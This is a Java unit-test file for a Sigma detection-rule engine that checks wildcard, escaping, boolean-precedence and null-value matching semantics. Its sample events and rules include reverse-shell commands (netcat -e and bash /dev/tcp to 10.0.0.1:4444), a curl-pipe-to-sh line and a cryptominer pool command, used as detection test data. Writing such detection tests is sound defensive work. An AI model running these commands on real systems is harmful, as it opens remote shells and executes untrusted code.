package io.vigil.detect.sigma;

import static io.vigil.detect.sigma.InlineRules.matches;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The matching semantics the issue spells out, one test each. */
class SigmaSemanticsTest {
  @Test
  void stringMatchingIsCaseInsensitiveByDefaultAndCasedMakesItExact() {
    String plain = """
        sel:
          Image: /usr/bin/XMRig
        condition: sel
        """;
    assertThat(matches(plain, Map.of("Image", "/usr/bin/xmrig"))).isTrue();
    assertThat(matches(plain, Map.of("Image", "/USR/BIN/XMRIG"))).isTrue();
    String cased = """
        sel:
          Image|cased: /usr/bin/XMRig
        condition: sel
        """;
    assertThat(matches(cased, Map.of("Image", "/usr/bin/XMRig"))).isTrue();
    assertThat(matches(cased, Map.of("Image", "/usr/bin/xmrig"))).isFalse();
  }

  @Test
  void starAndQuestionMarkAreTheOnlyWildcards() {
    String rule = """
        sel:
          CommandLine: 'wget http://?.example/*.sh'
        condition: sel
        """;
    assertThat(matches(rule, Map.of("CommandLine", "wget http://a.example/x/y.sh"))).isTrue();
    assertThat(matches(rule, Map.of("CommandLine", "wget http://ab.example/x.sh"))).as("? is exactly one character").isFalse();
    assertThat(matches(rule, Map.of("CommandLine", "wget http://a.example/.sh"))).as("* may be empty").isTrue();
    String regexLooking = """
        sel:
          CommandLine: 'a.c[0-9]+'
        condition: sel
        """;
    assertThat(matches(regexLooking, Map.of("CommandLine", "a.c[0-9]+"))).isTrue();
    assertThat(matches(regexLooking, Map.of("CommandLine", "abc11"))).as(". [ ] + are literal").isFalse();
  }

  @Test
  void backslashEscapesWildcardsAndItself() {
    String escapedStar = """
        sel:
          CommandLine: 'echo \\*'
        condition: sel
        """;
    assertThat(matches(escapedStar, Map.of("CommandLine", "echo *"))).isTrue();
    assertThat(matches(escapedStar, Map.of("CommandLine", "echo anything"))).isFalse();
    String escapedQuestion = """
        sel:
          CommandLine: 'what\\?'
        condition: sel
        """;
    assertThat(matches(escapedQuestion, Map.of("CommandLine", "what?"))).isTrue();
    assertThat(matches(escapedQuestion, Map.of("CommandLine", "whatx"))).isFalse();
    String backslashThenWildcard = """
        sel:
          Image: 'C:\\\\*'
        condition: sel
        """;
    assertThat(matches(backslashThenWildcard, Map.of("Image", "C:\\Windows\\cmd.exe"))).as("\\\\* is a backslash then a wildcard").isTrue();
    String plainBackslash = """
        sel:
          Image: 'C:\\Windows\\cmd.exe'
        condition: sel
        """;
    assertThat(matches(plainBackslash, Map.of("Image", "C:\\Windows\\cmd.exe"))).as("a lone backslash is literal").isTrue();
    String threeBackslashes = """
        sel:
          Image: 'a\\\\\\*'
        condition: sel
        """;
    assertThat(matches(threeBackslashes, Map.of("Image", "a\\*"))).as("\\\\\\* is a backslash and a literal star").isTrue();
    assertThat(matches(threeBackslashes, Map.of("Image", "a\\xyz"))).isFalse();
  }

  @Test
  void everyOtherCharacterIsLiteralSuchAsThePlusOfStratumTcp() {
    String rule = """
        sel:
          CommandLine|contains: 'stratum+tcp://'
        condition: sel
        """;
    assertThat(matches(rule, Map.of("CommandLine", "xmrig -o stratum+tcp://pool.example:3333"))).isTrue();
    assertThat(matches(rule, Map.of("CommandLine", "xmrig -o stratumtcp://pool.example:3333"))).isFalse();
    assertThat(matches(rule, Map.of("CommandLine", "xmrig -o stratummtcp://pool.example:3333"))).isFalse();
  }

  @Test
  void fieldsOfOneSelectionMapAreAnded() {
    String rule = """
        sel:
          Image|endswith: /nc
          CommandLine|contains: ' -e '
        condition: sel
        """;
    assertThat(matches(rule, Map.of("Image", "/bin/nc", "CommandLine", "nc -e /bin/sh 10.0.0.1 4444"))).isTrue();
    assertThat(matches(rule, Map.of("Image", "/bin/nc", "CommandLine", "nc -l 4444"))).isFalse();
    assertThat(matches(rule, Map.of("Image", "/bin/cat", "CommandLine", "cat -e file"))).isFalse();
  }

  @Test
  void mapsOfAListAreOred() {
    String rule = """
        sel:
          - Image|endswith: /nc
          - CommandLine|contains: /dev/tcp/
        condition: sel
        """;
    assertThat(matches(rule, Map.of("Image", "/bin/nc", "CommandLine", "nc -l"))).isTrue();
    assertThat(matches(rule, Map.of("Image", "/bin/bash", "CommandLine", "bash -i >& /dev/tcp/10.0.0.1/4444"))).isTrue();
    assertThat(matches(rule, Map.of("Image", "/bin/bash", "CommandLine", "bash -l"))).isFalse();
  }

  @Test
  void aListOfValuesIsOredUnlessAllIsGiven() {
    String any = """
        sel:
          CommandLine|contains:
            - curl
            - wget
        condition: sel
        """;
    assertThat(matches(any, Map.of("CommandLine", "wget http://x"))).isTrue();
    assertThat(matches(any, Map.of("CommandLine", "curl http://x"))).isTrue();
    assertThat(matches(any, Map.of("CommandLine", "ftp x"))).isFalse();
    String all = """
        sel:
          CommandLine|contains|all:
            - chmod
            - +x
        condition: sel
        """;
    assertThat(matches(all, Map.of("CommandLine", "chmod +x /tmp/a"))).isTrue();
    assertThat(matches(all, Map.of("CommandLine", "chmod 644 /tmp/a"))).isFalse();
  }

  @Test
  void conditionsHaveTheRightPrecedence() {
    // or < and < not < x of < parentheses: "a or b and not c" is "a or (b and (not c))".
    String rule = """
        a:
          F: a
        b:
          G: b
        c:
          H: c
        condition: a or b and not c
        """;
    assertThat(matches(rule, Map.of("F", "a", "H", "c"))).as("a alone suffices").isTrue();
    assertThat(matches(rule, Map.of("G", "b"))).isTrue();
    assertThat(matches(rule, Map.of("G", "b", "H", "c"))).isFalse();
    String grouped = """
        a:
          F: a
        b:
          G: b
        c:
          H: c
        condition: (a or b) and not c
        """;
    assertThat(matches(grouped, Map.of("F", "a", "H", "c"))).isFalse();
    String quantified = """
        sel_a:
          F: a
        sel_b:
          G: b
        filter:
          H: c
        condition: not 1 of sel_* and not filter
        """;
    assertThat(matches(quantified, Map.of("X", "y"))).isTrue();
    assertThat(matches(quantified, Map.of("G", "b"))).as("not binds looser than 1 of").isFalse();
  }

  @Test
  void aNullValueMeansTheFieldIsAbsentOrEmpty() {
    String rule = """
        sel:
          ParentImage: null
        condition: sel
        """;
    assertThat(matches(rule, Map.of("Image", "/bin/sh"))).as("absent").isTrue();
    assertThat(matches(rule, Map.of("ParentImage", ""))).as("empty").isTrue();
    Map<String, Object> explicitNull = new HashMap<>();
    explicitNull.put("ParentImage", null);
    assertThat(matches(rule, explicitNull)).as("null").isTrue();
    assertThat(matches(rule, Map.of("ParentImage", "/bin/bash"))).isFalse();
    String empty = """
        sel:
          ParentImage: ''
        condition: sel
        """;
    assertThat(matches(empty, Map.of("ParentImage", ""))).isTrue();
    assertThat(matches(empty, Map.of("ParentImage", "/bin/bash"))).isFalse();
    assertThat(matches(empty, Map.of("Image", "/bin/sh"))).as("'' needs the field to be there").isFalse();
  }

  @Test
  void patternsAreCompiledOnceAtLoadNeverPerEvent() {
    RuleSet rules = InlineRules.of(InlineRules.rule("""
        sel:
          CommandLine|re: '^curl .*\\| *sh$'
          Image|contains: url
        condition: sel
        """));
    DetectionRule rule = rules.detection(0);
    // The compiled tree holds ready matchers: a java.util.regex.Pattern and a glob, built by the loader,
    // the cheaper glob first.
    Search.All sel = (Search.All) rule.search();
    ValueMatcher regex = ((Search.FieldValues) sel.parts()[1]).values()[0];
    assertThat(regex).isInstanceOf(ValueMatcher.Regex.class);
    var pattern = ((ValueMatcher.Regex) regex).pattern();
    assertThat(rules.match(Map.of("CommandLine", "curl http://x | sh", "Image", "/usr/bin/curl"))).containsExactly("r");
    assertThat(rules.match(Map.of("CommandLine", "curl http://y |sh", "Image", "/usr/bin/curl"))).containsExactly("r");
    assertThat(((ValueMatcher.Regex) ((Search.FieldValues) ((Search.All) rules.detection(0).search()).parts()[1]).values()[0]).pattern())
        .as("matching reuses the same compiled pattern").isSameAs(pattern);
    assertThat(((Search.FieldValues) sel.parts()[0]).values()[0]).isInstanceOf(GlobMatcher.class);
  }

  @Test
  void numbersAndBooleansCompareAsTheirText() {
    String rule = """
        sel:
          DestinationPort: 4444
          Initiated: 'true'
        condition: sel
        """;
    assertThat(matches(rule, Map.of("DestinationPort", 4444L, "Initiated", true))).isTrue();
    assertThat(matches(rule, Map.of("DestinationPort", "4444", "Initiated", "true"))).isTrue();
    assertThat(matches(rule, Map.of("DestinationPort", 4445L, "Initiated", true))).isFalse();
    assertThat(matches(rule, Map.of("DestinationPort", List.of(80L, 4444L), "Initiated", true))).as("one element of a list").isTrue();
  }
}
